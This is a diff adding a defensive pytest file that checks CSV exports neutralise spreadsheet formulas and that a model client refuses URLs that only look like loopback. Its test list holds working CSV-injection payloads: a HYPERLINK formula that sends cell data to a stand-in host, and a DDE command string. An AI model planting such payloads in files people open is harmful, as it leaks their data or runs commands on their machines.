@@ -1,0 +1,97 @@
+"""Reliability and security, round three: cells a spreadsheet would run, and what "this machine" means."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from mentalglm.fileio.atomic import csv_text, read_csv
+from mentalglm.network import is_loopback_host
+from mentalglm.teacher.client import TeacherError, check_destination, is_loopback
+
+HOSTILE = [
+    '=HYPERLINK("http://x.invalid/?q="&D2, "more")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "'",
+    "帖子里写道：=这不是公式",
+    "plain text",
+]
+
+
+def test_formula_like_cells_are_neutralised_and_read_back_unchanged():
+    rows = [{"post": value, "answer": f"{value} again"} for value in HOSTILE]
+    text = csv_text(["post", "answer"], rows)
+    as_a_spreadsheet_reads_it = list(csv.DictReader(io.StringIO(text, newline="")))
+    for cells in as_a_spreadsheet_reads_it:
+        for value in cells.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value  # text, never a formula
+    fields, back = read_csv(text)
+    assert fields == ["post", "answer"] and back == rows
+
+
+def test_the_expert_sheets_and_the_revision_sheet_hold_no_formula(tmp_path):
+    from mentalglm.commands.build_data import SHEET_FIELDS
+    from mentalglm.expert.kit import read_csv_rows
+
+    sheet = tmp_path / "revision.csv"
+    row = {f: "" for f in SHEET_FIELDS} | {"post": HOSTILE[0], "teacher_answer": HOSTILE[3], "id": "-1"}
+    sheet.write_text(csv_text(SHEET_FIELDS, [row]), encoding="utf-8")
+    raw = next(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
+    assert raw["post"].startswith("'=") and raw["teacher_answer"].startswith("'@") and raw["id"] == "'-1"
+    assert read_csv_rows(sheet)[1] == [row]
+
+
+@pytest.mark.parametrize(
+    "host,local",
+    [
+        ("127.0.0.1", True),
+        ("localhost", True),
+        ("LOCALHOST.", True),
+        ("::1", True),
+        ("[::1]", True),
+        ("127.1", True),  # the resolver's short form
+        ("2130706433", True),  # 127.0.0.1 as one number
+        ("0x7f000001", True),
+        ("::ffff:127.0.0.1", True),
+        ("127.0.0.1.attacker.invalid", False),  # a name that only starts like loopback
+        ("localhost.attacker.invalid", False),
+        ("10.0.0.1", False),
+        ("0.0.0.0", False),  # every interface
+        ("", False),
+        (None, False),
+    ],
+)
+def test_this_machine_means_an_address_that_resolves_to_loopback(host, local):
+    assert is_loopback_host(host) is local
+
+
+def test_the_teacher_guard_reads_the_parsed_host():
+    class Cfg:
+        allow_remote = False
+        base_url = "http://127.0.0.1.attacker.invalid:8761/v1"
+
+    assert not is_loopback(Cfg.base_url) and not is_loopback("http://[::1/v1")
+    with pytest.raises(TeacherError, match="is not on this machine: the posts would be sent to 127.0.0.1.attacker"):
+        check_destination(Cfg)
+    Cfg.base_url = "http://127.1:8761/v1"
+    check_destination(Cfg)  # loopback in another notation: allowed
+
+
+def test_a_teacher_url_that_only_looks_local_stops_in_one_line(run_cli):
+    proc = run_cli(
+        "build_data.py",
+        "data=fixtures_label_only",
+        "expert_examples=fixtures",
+        "teacher.base_url=http://127.0.0.1.attacker.invalid:8761/v1",
+        check=False,
+    )
+    lines = [line for line in proc.stderr.strip().splitlines() if line.strip()]
+    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
+    assert lines[-1].startswith("error: teacher.base_url=http://127.0.0.1.attacker.invalid:8761/v1 is not on this")
